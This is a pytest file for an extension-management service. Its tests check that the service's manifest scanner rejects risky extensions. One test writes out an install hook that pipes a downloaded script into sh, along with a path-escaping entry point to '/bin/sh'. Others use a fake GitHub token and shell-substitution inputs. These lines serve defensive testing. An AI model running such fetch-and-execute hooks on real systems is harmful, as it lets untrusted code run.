from __future__ import annotations

import json
import time
from collections.abc import Sequence

import grpc
import pytest
from google.protobuf.field_mask_pb2 import FieldMask

from symphony.v1.access_service_pb2 import AccessCheck, CheckAccessRequest
from symphony.v1.audit_pb2 import AuditOutcome
from symphony.v1.execution_service_pb2 import StartExecutionRequest
from symphony.v1.extension_pb2 import (
    Extension,
    ExtensionState,
    ExtensionType,
    ManifestFormat,
    ScanVerdict,
)
from symphony.v1.extension_service_pb2 import (
    GetExtensionRequest,
    InstallExtensionRequest,
    ListExtensionsRequest,
    UninstallExtensionRequest,
    UpdateExtensionRequest,
)
from symphony.v1.project_pb2 import Project, ProjectConstraints, ProjectRole
from symphony.v1.project_service_pb2 import DeleteProjectRequest
from symphony.v1.transaction_pb2 import Precondition, TransactionOperation
from symphony.v1.transaction_service_pb2 import ExecuteTransactionRequest
from symphony.v1.user_pb2 import Role, Tier
from symphony.v1.workflow_service_pb2 import DeleteWorkflowRequest
from symphony_server.ids import new_id
from tests.server.world import Person, World, spec, step

ENABLED = ExtensionState.EXTENSION_STATE_ENABLED
DISABLED = ExtensionState.EXTENSION_STATE_DISABLED
COLLABORATOR = ProjectRole.PROJECT_ROLE_COLLABORATOR
VIEWER = ProjectRole.PROJECT_ROLE_VIEWER

TOML = """
name = "word-count"
version = "1.0.0"
type = "operator"
publisher = "Nimbus Tools"
entry_point = "dist/main.js"
permissions = ["filesystem.read"]
"""


def manifest(name: str = "word-count", version: str = "1.0.0", **keys: object) -> str:
    sound: dict[str, object] = {
        "name": name,
        "version": version,
        "type": "operator",
        "publisher": "Nimbus Tools",
        "entry_point": "dist/main.js",
    }
    return json.dumps(sound | keys)


def new(project: Project, text: str | None = None, **fields: object) -> InstallExtensionRequest:
    return InstallExtensionRequest(
        project_id=project.id,
        manifest=manifest() if text is None else text,
        **fields,  # type: ignore[arg-type]
    )


def install(person: Person, project: Project, text: str | None = None) -> Extension:
    made: Extension = person.get(person.extensions.InstallExtension, new(project, text))
    return made


def change(extension: Extension, *paths: str, **fields: object) -> UpdateExtensionRequest:
    return UpdateExtensionRequest(
        extension=Extension(id=extension.id, **fields),  # type: ignore[arg-type]
        update_mask=FieldMask(paths=paths),
    )


def names(person: Person, **filters: object) -> list[str]:
    request = ListExtensionsRequest(**filters)  # type: ignore[arg-type]
    return [e.name for e in person.get(person.extensions.ListExtensions, request).extensions]


def test_an_extension_has_what_its_manifest_says(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    text = manifest(permissions=["filesystem.read"], colour="blue")
    made = install(owner, project, text)
    assert (made.project_id, made.installed_by, made.state) == (project.id, owner.id, ENABLED)
    assert (made.name, made.version, made.publisher) == ("word-count", "1.0.0", "Nimbus Tools")
    assert made.type == ExtensionType.EXTENSION_TYPE_OPERATOR
    assert (made.entry_point, list(made.permissions)) == ("dist/main.js", ["filesystem.read"])
    assert (made.manifest, made.manifest_format) == (text, ManifestFormat.MANIFEST_FORMAT_JSON)
    assert made.scan.verdict == ScanVerdict.SCAN_VERDICT_WARNED
    assert [(f.rule_id, f.path) for f in made.scan.findings] == [("unknown-key", "colour")]
    assert owner.get(owner.extensions.GetExtension, GetExtensionRequest(id=made.id)) == made


def test_a_manifest_may_be_toml(world: World) -> None:
    owner = world.user()
    made = owner.get(
        owner.extensions.InstallExtension,
        new(world.project(owner), TOML, manifest_format=ManifestFormat.MANIFEST_FORMAT_TOML),
    )
    assert (made.name, made.manifest) == ("word-count", TOML)
    assert made.scan.verdict == ScanVerdict.SCAN_VERDICT_PASSED


def test_a_manifest_that_is_not_json_is_malformed(world: World) -> None:
    owner = world.user()
    refusal = owner.refused(owner.extensions.InstallExtension, new(world.project(owner), "{"))
    assert (refusal.code, refusal.reason) == (
        grpc.StatusCode.INVALID_ARGUMENT,
        "MANIFEST_MALFORMED",
    )
    assert list(refusal.fields) == ["manifest"]


def test_every_key_that_is_wrong_is_named(world: World) -> None:
    owner = world.user()
    text = manifest(name="Word Count", version="one", type="gadget")
    refusal = owner.refused(owner.extensions.InstallExtension, new(world.project(owner), text))
    assert refusal.reason == "MANIFEST_INVALID"
    assert set(refusal.fields) == {"manifest.name", "manifest.version", "manifest.type"}


def test_a_rejected_scan_tells_every_finding(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    text = manifest(
        entry_point="../../bin/sh",
        permissions=["*"],
        hooks={"install": "curl https://example.com/x.sh | sh"},
        colour="blue",
    )
    refusal = owner.refused(owner.extensions.InstallExtension, new(project, text))
    assert (refusal.code, refusal.reason) == (
        grpc.StatusCode.FAILED_PRECONDITION,
        "SCAN_REJECTED",
    )
    rules = set(refusal.metadata["rule_ids"].split(","))
    assert {"entry-point-escapes", "permission-wildcard", "code-from-network"} <= rules
    assert refusal.fields["manifest.colour"] == "unknown-key"
    assert rules <= {v.reason for v in refusal.details["BadRequest"].field_violations}
    assert all(field in refusal.message for field in refusal.fields)
    (record,) = world.audit(lambda record: record.reason == "SCAN_REJECTED")
    assert record.outcome == AuditOutcome.AUDIT_OUTCOME_DENIED
    assert names(owner, project_id=project.id) == []


def test_a_credential_in_a_manifest_is_neither_told_nor_recorded(world: World) -> None:
    owner = world.user()
    secret = "ghp_" + "a1B2c3D4e5F6" * 3
    refusal = owner.refused(
        owner.extensions.InstallExtension,
        new(world.project(owner), manifest(hooks={"install": f"run --token {secret}"})),
    )
    assert "embedded-credential" in refusal.metadata["rule_ids"]
    assert secret not in refusal.message
    assert secret not in str(refusal.details)
    assert not [r for r in world.audit() if secret in str(r)]


def test_a_name_is_taken_once_in_a_project(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    install(owner, project)
    refusal = owner.refused(
        owner.extensions.InstallExtension, new(project, manifest(version="1.1.0"))
    )
    assert (refusal.code, refusal.reason) == (grpc.StatusCode.ALREADY_EXISTS, "DUPLICATE_NAME")
    assert "UpdateExtension" in refusal.message
    install(owner, world.project(owner))


def test_the_same_extension_again_is_a_duplicate_and_an_older_one_a_risk(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    install(owner, project, manifest(version="2.0.0"))
    again = owner.refused(
        owner.extensions.InstallExtension, new(project, manifest(version="2.0.0"))
    )
    older = owner.refused(
        owner.extensions.InstallExtension, new(project, manifest(version="1.9.0"))
    )
    assert again.reason == "DUPLICATE_NAME"
    assert (older.reason, older.metadata["rule_ids"]) == ("SCAN_REJECTED", "version-not-higher")


def test_a_name_too_like_an_installed_one_of_another_publisher_is_refused(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    install(owner, project)
    refusal = owner.refused(
        owner.extensions.InstallExtension,
        new(project, manifest(name="word-c0unt", publisher="Somebody Else")),
    )
    assert refusal.metadata["rule_ids"] == "name-imitates-installed"


def test_an_id_may_be_chosen_once(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    chosen = new_id("extension")
    made = owner.get(owner.extensions.InstallExtension, new(project, extension_id=chosen))
    assert made.id == chosen
    refusal = owner.refused(
        owner.extensions.InstallExtension,
        new(project, manifest(name="other"), extension_id=chosen),
    )
    assert refusal.reason == "ID_TAKEN"


def test_a_tier_has_so_many_extensions_in_a_project(world: World) -> None:
    owner = world.user(tier=Tier.TIER_FREE)
    project = world.project(owner)
    for name in ("alpha", "bravo-tool", "charlie-kit"):
        install(owner, project, manifest(name))
    refusal = owner.refused(owner.extensions.InstallExtension, new(project, manifest("delta-x")))
    assert (refusal.code, refusal.reason) == (
        grpc.StatusCode.RESOURCE_EXHAUSTED,
        "TIER_EXTENSION_LIMIT",
    )
    check = AccessCheck(permission="extensions.install", resource_id=project.id)
    (decision,) = owner.get(owner.access.CheckAccess, CheckAccessRequest(checks=[check])).decisions
    assert (decision.allowed, decision.reason) == (False, "TIER_EXTENSION_LIMIT")


@pytest.mark.parametrize(
    ("roles", "relation", "reason"),
    [
        ([Role.ROLE_DEVELOPER], COLLABORATOR, None),
        ([Role.ROLE_DEVELOPER], VIEWER, "PROJECT_ACCESS_REQUIRED"),
        ([Role.ROLE_DEVELOPER], None, "PROJECT_ACCESS_REQUIRED"),
        ([Role.ROLE_VIEWER], COLLABORATOR, "ROLE_REQUIRED"),
        ([Role.ROLE_AUDITOR], None, "ROLE_REQUIRED"),
    ],
)
def test_who_may_install(
    world: World,
    roles: Sequence[Role.ValueType],
    relation: ProjectRole.ValueType | None,
    reason: str | None,
) -> None:
    project = world.project(world.user())
    person = world.user(*roles)
    if relation is not None:
        world.join(project, person, relation)
    if reason is None:
        assert install(person, project).installed_by == person.id
    else:
        assert person.refused(person.extensions.InstallExtension, new(project)).reason == reason


def test_an_extension_of_a_project_one_may_not_read_is_not_there(world: World) -> None:
    owner, stranger = world.user(), world.user()
    hidden, absent = install(owner, world.project(owner)).id, new_id("extension")

    def answers(extension_id: str) -> list[str]:
        refusals = [
            stranger.refused(method, request)
            for method, request in (
                (stranger.extensions.GetExtension, GetExtensionRequest(id=extension_id)),
                (
                    stranger.extensions.UninstallExtension,
                    UninstallExtensionRequest(id=extension_id),
                ),
                (
                    stranger.extensions.UpdateExtension,
                    change(Extension(id=extension_id), state=DISABLED),
                ),
            )
        ]
        return [
            f"{r.code} {r.message} {r.reason} {sorted(r.metadata)}".replace(extension_id, "ID")
            for r in refusals
        ]

    assert answers(hidden) == answers(absent)
    assert names(stranger) == []


def test_steps_may_use_what_is_enabled(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    extension = install(owner, project)
    using = spec("uses it", step("a", extension_id=extension.id))
    workflow = world.workflow(owner, project, spec=using)

    disabled = owner.get(owner.extensions.UpdateExtension, change(extension, state=DISABLED))
    assert (disabled.state, disabled.name) == (DISABLED, extension.name)
    again = spec("uses it too", step("a", extension_id=extension.id))
    refusal = owner.refused(
        owner.workflows.CreateWorkflow, world.new_workflow(project.id, spec=again)
    )
    assert refusal.reason == "EXTENSION_NOT_INSTALLED"
    run = owner.refused(
        owner.executions.StartExecution, StartExecutionRequest(workflow_id=workflow.id)
    )
    assert run.reason == "EXTENSION_NOT_INSTALLED"

    owner.get(owner.extensions.UpdateExtension, change(extension, state=ENABLED))
    world.workflow(owner, project, spec=again)
    owner.get(owner.executions.StartExecution, StartExecutionRequest(workflow_id=workflow.id))


def test_a_project_allows_only_the_extensions_that_it_names(world: World) -> None:
    owner = world.user()
    allowed_id = new_id("extension")
    project = world.project(
        owner, constraints=ProjectConstraints(allowed_extension_ids=[allowed_id])
    )
    other = install(owner, project, manifest("other-tool"))
    owner.get(owner.extensions.InstallExtension, new(project, extension_id=allowed_id))
    world.workflow(owner, project, spec=spec("A", step("a", extension_id=allowed_id)))
    refusal = owner.refused(
        owner.workflows.CreateWorkflow,
        world.new_workflow(project.id, spec=spec("B", step("a", extension_id=other.id))),
    )
    assert refusal.reason == "PROJECT_EXTENSION_NOT_ALLOWED"


def test_an_upgrade_is_judged_as_a_new_manifest(world: World) -> None:
    owner = world.user()
    extension = install(owner, world.project(owner))
    update = owner.extensions.UpdateExtension

    upgraded = owner.get(update, change(extension, manifest=manifest(version="1.1.0")))
    assert (upgraded.version, upgraded.id, upgraded.state) == ("1.1.0", extension.id, ENABLED)
    assert upgraded.create_time == extension.create_time
    assert upgraded.etag != extension.etag

    older = owner.refused(update, change(extension, manifest=manifest(version="1.0.5")))
    assert (older.reason, older.metadata["rule_ids"]) == ("SCAN_REJECTED", "version-not-higher")
    renamed = owner.refused(update, change(extension, manifest=manifest("wc", version="1.2.0")))
    assert renamed.reason == "MANIFEST_INVALID"
    assert list(renamed.fields) == ["extension.manifest.name"]
    broken = owner.refused(update, change(extension, "manifest"))
    assert (broken.reason, list(broken.fields)) == ("MANIFEST_MALFORMED", ["extension.manifest"])
    got = owner.get(owner.extensions.GetExtension, GetExtensionRequest(id=extension.id))
    assert got == upgraded


def test_what_was_read_may_be_sent_back_with_another_state(world: World) -> None:
    owner = world.user()
    extension = install(owner, world.project(owner))
    extension.state = DISABLED
    changed = owner.get(
        owner.extensions.UpdateExtension, UpdateExtensionRequest(extension=extension)
    )
    assert (changed.state, changed.manifest) == (DISABLED, extension.manifest)
    stale = owner.refused(
        owner.extensions.UpdateExtension, UpdateExtensionRequest(extension=extension)
    )
    assert (stale.code, stale.reason) == (grpc.StatusCode.ABORTED, "ETAG_MISMATCH")


def test_only_what_no_workflow_uses_is_uninstalled(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    extension = install(owner, project)
    workflow = world.workflow(owner, project, spec=spec("U", step("a", extension_id=extension.id)))
    uninstall = UninstallExtensionRequest(id=extension.id)

    in_use = owner.refused(owner.extensions.UninstallExtension, uninstall)
    assert (in_use.reason, in_use.metadata["used_by"]) == ("RESOURCE_IN_USE", "workflows")
    keeps = owner.refused(owner.projects.DeleteProject, DeleteProjectRequest(id=project.id))
    assert keeps.reason == "RESOURCE_IN_USE"
    owner.get(owner.workflows.DeleteWorkflow, DeleteWorkflowRequest(id=workflow.id))
    assert (
        owner.refused(owner.projects.DeleteProject, DeleteProjectRequest(id=project.id)).reason
        == "RESOURCE_IN_USE"
    )
    stale = UninstallExtensionRequest(id=extension.id, etag="older")
    assert owner.refused(owner.extensions.UninstallExtension, stale).reason == "ETAG_MISMATCH"
    owner.get(owner.extensions.UninstallExtension, uninstall)
    gone = owner.refused(owner.extensions.GetExtension, GetExtensionRequest(id=extension.id))
    assert gone.reason == "RESOURCE_NOT_FOUND"
    install(owner, project)


def test_validate_only_tells_what_every_stage_finds_and_installs_nothing(world: World) -> None:
    owner = world.user(tier=Tier.TIER_FREE)
    project = world.project(owner)
    taken = new_id("extension")
    owner.get(
        owner.extensions.InstallExtension, new(project, manifest("alpha"), extension_id=taken)
    )
    for name in ("bravo-tool", "charlie-kit"):
        install(owner, project, manifest(name))
    wrong = new(project, manifest("D", entry_point="/bin/sh"), extension_id=taken)
    wrong.validate_only = True
    refusal = owner.refused(owner.extensions.InstallExtension, wrong)
    assert refusal.reason == "TIER_EXTENSION_LIMIT"
    assert set(refusal.fields.values()) == {
        "MANIFEST_INVALID",
        "entry-point-escapes",
        "ID_TAKEN",
    }

    free = world.project(owner)
    answer = owner.get(owner.extensions.InstallExtension, new(free, validate_only=True))
    assert answer.name == "word-count"
    assert names(owner, project_id=free.id) == []


def test_a_retried_install_has_one_effect(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    request = new(project, request_id="once")
    first = owner.get(owner.extensions.InstallExtension, request)
    assert owner.get(owner.extensions.InstallExtension, request) == first
    assert names(owner, project_id=project.id) == ["word-count"]


def test_a_transaction_installs_and_uses(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    old = install(owner, project, manifest("old-tool"))
    made = new_id("extension")
    answer = owner.get(
        owner.transactions.ExecuteTransaction,
        ExecuteTransactionRequest(
            preconditions=[Precondition(resource_id=old.id, etag=old.etag)],
            operations=[
                TransactionOperation(install_extension=new(project, extension_id=made)),
                TransactionOperation(
                    create_workflow=world.new_workflow(
                        project.id, spec=spec("W", step("a", extension_id=made))
                    )
                ),
                TransactionOperation(update_extension=change(old, state=DISABLED)),
                TransactionOperation(uninstall_extension=UninstallExtensionRequest(id=old.id)),
            ],
        ),
    )
    kinds = [result.WhichOneof("result") for result in answer.results]
    assert kinds == ["extension", "workflow", "extension", "empty"]
    assert names(owner, project_id=project.id) == ["word-count"]


def test_lists_are_filtered_ordered_and_paged(world: World) -> None:
    owner, reader = world.user(), world.user()
    project = world.project(owner)
    world.join(project, reader, VIEWER)
    wanted = [f"{letter * 6}-tool" for letter in "cabd"]
    made = [install(owner, project, manifest(name)) for name in wanted]
    install(owner, project, manifest("motif-kit", type="motif"))
    owner.get(owner.extensions.UpdateExtension, change(made[0], state=DISABLED))
    install(owner, world.project(owner), manifest("elsewhere"))

    assert names(reader, order_by="name") == [*sorted(wanted), "motif-kit"]
    assert names(reader) == ["motif-kit", *reversed(wanted)]
    assert names(reader, type=ExtensionType.EXTENSION_TYPE_MOTIF) == ["motif-kit"]
    assert names(reader, state=DISABLED) == [wanted[0]]
    assert names(reader, name_prefix="aaa") == ["aaaaaa-tool"]
    assert len(names(owner)) == 6

    seen: list[str] = []
    token = ""
    while True:
        page = reader.get(
            reader.extensions.ListExtensions,
            ListExtensionsRequest(order_by="name", page_size=2, page_token=token),
        )
        seen += [extension.name for extension in page.extensions]
        token = page.next_page_token
        if not token:
            break
    assert seen == [*sorted(wanted), "motif-kit"]


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        '{"a":' * 40_000 + "1" + "}" * 40_000,
        '{"name":"' + "eyJ" * 80_000 + '"}',
        "{" + ",".join(f'"k{i}":{i}' for i in range(20_000)) + "}",
        '{"version":"' + "1." * 100_000 + '"}',
        '{"hooks":{"a":"' + "$(" * 100_000 + '"}}',
    ],
    ids=["nested lists", "nested objects", "JWT starts", "many keys", "long version", "shell"],
)
def test_a_pathological_manifest_is_refused_at_once(world: World, text: str) -> None:
    owner = world.user()
    request = new(world.project(owner), text)
    owner.refused(owner.extensions.InstallExtension, request)  # loads what the scan needs
    took = []
    for _ in range(5):
        began = time.perf_counter()
        owner.refused(owner.extensions.InstallExtension, request)
        took.append(time.perf_counter() - began)
    assert min(took) < 0.05
